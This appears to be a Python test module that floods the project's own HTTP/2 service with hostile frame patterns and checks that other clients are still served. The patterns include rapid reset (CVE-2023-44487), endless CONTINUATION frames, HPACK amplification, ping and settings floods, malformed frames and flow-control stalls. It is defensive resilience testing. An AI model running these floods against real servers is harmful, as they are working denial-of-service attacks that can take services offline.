"""Floods of frames at a service, by somebody with a good certificate."""

import asyncio
from collections.abc import Awaitable, Callable, Iterator

from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.attacks.contract import path_of, valid
from tests.attacks.floods.others import served_beside
from tests.attacks.frames import Http2, connected, message_frame, request_head
from tests.attacks.hand.peers import READ
from tests.attacks.verdicts import Answer, Case
from tests.attacks.world import World

CALM = "GOAWAY ENHANCE_YOUR_CALM"
AT_ONCE = 200  # frames in one write
CONNECTIONS = 4
# As fast as attackers are known to be, over all connections; not as fast as two cores let us write.
RESETS_PER_SECOND = 10_000
UNTAKEN_PER_SECOND = 200
FRAME_BYTES = 16_000
CANCEL = 8
OF_NO_TYPE = b"\x00\x00\x04\xee\x00\x00\x00\x00\x00abcd"

Flood = Callable[[Http2], Awaitable[str]]


def cases(world: World, *, scale: float = 1.0) -> Iterator[Case]:
    """Each flood at its size, or at a part of it; others are served beside each."""

    def size(full: int) -> int:
        return max(1, round(full * scale))

    for name, flood, connections in (
        (
            "pings",
            _frames(lambda _: PingFrame(0, opaque_data=b"attacked"), size(5_000), 1),
            1,
        ),
        ("settings", _frames(lambda _: SettingsFrame(0), size(10_000)), 1),
        ("priorities", _frames(lambda number: PriorityFrame(number * 2 + 1, depends_on=0), size(10_000)), 1),
        ("empty data", _empty_data(size(20_000)), 1),
        ("window updates", _window_updates(size(10_000)), 1),
        ("rapid resets", _resets(size(10_000)), CONNECTIONS),
        ("continuations without end", _continuations(size(2_000)), 1),
        ("compressed headers that unfold", _unfolding(size(4_000)), 1),
        ("a frame that is too long", _too_long, 1),
        (
            "frames of no type",
            _frames(lambda _: OF_NO_TYPE, size(10_000)),
            1,
        ),
        ("answers that nobody takes", _not_taken(world, size(150)), CONNECTIONS),
    ):
        yield _case(world, name, flood, connections)


def _case(world: World, name: str, flood: Flood, connections: int) -> Case:
    async def attack() -> str:
        endings = await asyncio.gather(*(one() for _ in range(connections)))
        return " ".join(sorted(set(endings)))

    async def one() -> str:
        async with connected(world.rpc.address("members"), world.caller("partner").files) as connection:
            return await flood(connection)

    async def ask(_: int) -> Answer:
        return await served_beside(world, attack)

    # More pings than are allowed end a connection, though what is said then may be lost behind what was
    # not read; what is merely a lot may go on.
    ended = tuple(f"others are served, {ending}" for ending in (CALM, "closed"))
    expected = ended if name == "pings" else _ENDINGS
    return Case("floods", name, ask, expected, timed=False)


_ENDINGS = tuple(
    f"others are served, {ending}"
    for ending in ("open", "closed", CALM, "GOAWAY PROTOCOL_ERROR", "GOAWAY INTERNAL_ERROR", "GOAWAY 6")
)


def _frames(make: Callable[[int], Frame | bytes], count: int, at_once: int = AT_ONCE) -> Flood:
    async def flood(connection: Http2) -> str:
        for start in range(0, count, at_once):
            if not await connection.write(*(make(number) for number in range(start, start + at_once))):
                break
            await asyncio.sleep(0)
        return await connection.ended(seconds=0.5)

    return flood


def _head() -> list[tuple[str, str]]:
    return request_head(f"/{path_of(READ)}")


def _resets(count: int) -> Flood:
    """Streams that are begun and reset at once (CVE-2023-44487)."""

    async def flood(connection: Http2) -> str:
        await connection.write(connection.headers(1, _head()), RstStreamFrame(1, error_code=CANCEL))
        again = connection.block(_head())  # in the table by now, so alike for every stream
        for start in range(1, count, AT_ONCE):
            streams = ((number * 2 + 1).to_bytes(4, "big") for number in range(start, start + AT_ONCE))
            if not await connection.write(b"".join(_reset(stream, again) for stream in streams)):
                break
            await asyncio.sleep(AT_ONCE * CONNECTIONS / RESETS_PER_SECOND)
        return await connection.ended(seconds=0.5)

    return flood


def _reset(stream: bytes, block: bytes) -> bytes:
    """A head and a reset, written quickly: it is the service that should have work, and not we."""
    head = len(block).to_bytes(3, "big") + b"\x01\x04" + stream + block
    return head + b"\x00\x00\x04\x03\x00" + stream + CANCEL.to_bytes(4, "big")


def _continuations(count: int) -> Flood:
    """A head that never ends (CVE-2024-27316 and its like)."""

    async def flood(connection: Http2) -> str:
        block = connection.block(_head())
        await connection.write(HeadersFrame(1, data=block))
        filler = connection.block([("x-filler", "a" * 1_000)])
        part = ContinuationFrame(1, data=filler * (FRAME_BYTES // len(filler)))
        for _ in range(count):
            if not await connection.write(part):
                break
        return await connection.ended(seconds=0.5)

    return flood


def _unfolding(count: int) -> Flood:
    """One long header in the table of the connection, named again and again by a byte."""

    async def flood(connection: Http2) -> str:
        block = connection.block([*_head(), ("x-long", "a" * 3_500)])
        index = bytes(encode_integer(62, 7))
        again = bytes([index[0] | 0x80]) + index[1:]
        for stream in range(1, 2 * max(1, count // FRAME_BYTES) + 20, 2):
            frame = HeadersFrame(stream, data=block + again * min(count, FRAME_BYTES - len(block)))
            frame.flags.add("END_HEADERS")
            if not await connection.write(frame):
                break
            block = connection.block(_head())
        return await connection.ended(seconds=0.5)

    return flood


def _empty_data(count: int) -> Flood:
    async def flood(connection: Http2) -> str:
        await connection.write(connection.headers(1, _head()))
        return await _frames(lambda _: DataFrame(1), count)(connection)

    return flood


def _window_updates(count: int) -> Flood:
    async def flood(connection: Http2) -> str:
        await connection.write(connection.headers(1, _head()))
        return await _frames(lambda _: WindowUpdateFrame(1, window_increment=1), count)(connection)

    return flood


async def _too_long(connection: Http2) -> str:
    await connection.write(b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(FRAME_BYTES))
    return await connection.ended(seconds=0.5)


def _not_taken(world: World, count: int) -> Flood:
    """Good requests whose answers are never let out."""

    async def flood(connection: Http2) -> str:
        closed = SettingsFrame(0)
        closed.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
        await connection.write(closed)
        payload = valid(READ, world.own).SerializeToString()
        for number in range(count):
            stream = number * 2 + 1
            frames = connection.headers(stream, _head()), message_frame(stream, payload)
            if not await connection.write(*frames):
                break
            await asyncio.sleep(CONNECTIONS / UNTAKEN_PER_SECOND)
        await asyncio.sleep(1)
        return await connection.ended(seconds=0.5)

    return flood
